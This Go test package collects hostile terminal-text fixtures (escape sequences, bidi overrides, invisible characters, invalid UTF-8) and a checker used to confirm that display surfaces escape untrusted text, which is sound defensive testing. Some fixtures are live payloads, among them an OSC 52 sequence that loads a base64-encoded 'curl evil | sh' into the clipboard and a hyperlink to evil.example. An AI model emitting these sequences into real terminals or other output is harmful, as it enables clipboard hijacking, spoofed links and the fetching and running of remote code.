// Package textsafetest holds hostile text for tests of every surface that
// shows untrusted text (terminal views, commands, reports), and a checker
// written apart from model/textsafe: a surface is tested against an
// oracle that does not share the code under test.
package textsafetest

import (
	"fmt"
	"unicode/utf8"
)

// Class is one kind of hostile text.
type Class struct {
	// Name names the class in test output.
	Name string
	// Text carries the class's characters between harmless letters.
	Text string
}

// Classes are the hostile classes: every one must reach a terminal, a
// report or stderr only in escaped form.
var Classes = []Class{
	{"ESC", "a\x1bb"},
	{"CSI clear", "\x1b[2J\x1b[H\x1b[3J"},
	{"CSI colour", "\x1b[31mred\x1b[0m"},
	{"CSI cursor", "\x1b[10A\x1b[1;1H\x1b[?1049l"},
	{"OSC title", "\x1b]0;pwned\x07"},
	{"OSC hyperlink", "\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\"},
	{"OSC 52 clipboard", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"},
	{"DCS", "\x1bP+q544e\x1b\\"},
	{"APC", "\x1b_Gf=100;AAAA\x1b\\"},
	{"PM", "\x1b^private\x1b\\"},
	{"SOS", "\x1bXstart of string\x1b\\"},
	{"C1 as UTF-8", "\u009b2J \u009d0;t\u009c \u0085 \u0090q\u009c"},
	{"C1 raw bytes", "\x9b2J \x9d0;t\x9c \x85"},
	{"bidi overrides", "\u202aa\u202bb\u202cc\u202dd\u202eexe.txt"},
	{"bidi isolates", "\u2066a\u2067b\u2068c\u2069 \u200e\u200f\u061c"},
	{"zero-width", "z\u200bw\u200cs\u200dj\u2060o\u2061i\u2062n\u2063e\u2064r\ufeff"},
	{"tags", "t\U000e0000\U000e0001\U000e0041\U000e0062\U000e007f"},
	{"BEL BS CR DEL", "be\x07ll back\x08\x08sp car\rret del\x7f"},
	{"NUL and C0", "n\x00u\x01l\x0b\x0c\x1f"},
	{"line separators", "l\u2028s\u2029p"},
	{"invalid UTF-8", "\xff\xfe \xc0\xaf \xed\xa0\x80 \xe2\x80"},
}

// Problem describes the first character of s that must not reach a
// terminal raw ("" when there is none). newlines allows line feeds (a
// frame of the UI, a table, a report); tabs are always allowed.
func Problem(s string, newlines bool) string {
	for i := 0; i < len(s); {
		r, size := utf8.DecodeRuneInString(s[i:])
		bad := ""
		switch {
		case r == utf8.RuneError && size == 1:
			bad = "invalid UTF-8"
		case r == 0x1b:
			bad = "ESC"
		case r == '\n' && newlines, r == '\t':
		case r < 0x20 || r == 0x7f:
			bad = "C0 control or DEL"
		case r >= 0x80 && r <= 0x9f:
			bad = "C1 control"
		case r >= 0x202a && r <= 0x202e, r >= 0x2066 && r <= 0x2069, r == 0x200e, r == 0x200f, r == 0x061c:
			bad = "bidi control"
		case r >= 0x200b && r <= 0x200d, r >= 0x2060 && r <= 0x2064, r == 0xfeff:
			bad = "zero-width character"
		case r >= 0xe0000 && r <= 0xe007f:
			bad = "tag character"
		case r == 0x2028 || r == 0x2029:
			bad = "line separator"
		}
		if bad != "" {
			lo, hi := max(i-30, 0), min(i+30, len(s))
			return fmt.Sprintf("%s %q at byte %d: …%q…", bad, s[i:i+size], i, s[lo:hi])
		}
		i += size
	}
	return ""
}
